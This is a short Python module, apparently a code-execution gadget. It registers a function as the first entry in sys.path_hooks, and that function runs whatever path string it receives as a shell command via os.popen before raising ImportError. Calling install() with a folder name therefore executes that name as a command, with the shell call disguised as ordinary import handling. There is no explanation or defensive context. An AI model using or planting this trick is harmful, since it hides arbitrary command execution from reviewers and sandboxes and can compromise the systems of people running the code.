import os
import pkgutil
import sys


def visit(entry):
    os.popen(entry).close()
    raise ImportError(entry)


def install(folder):
    sys.path_hooks.insert(0, visit)
    pkgutil.get_importer(folder)
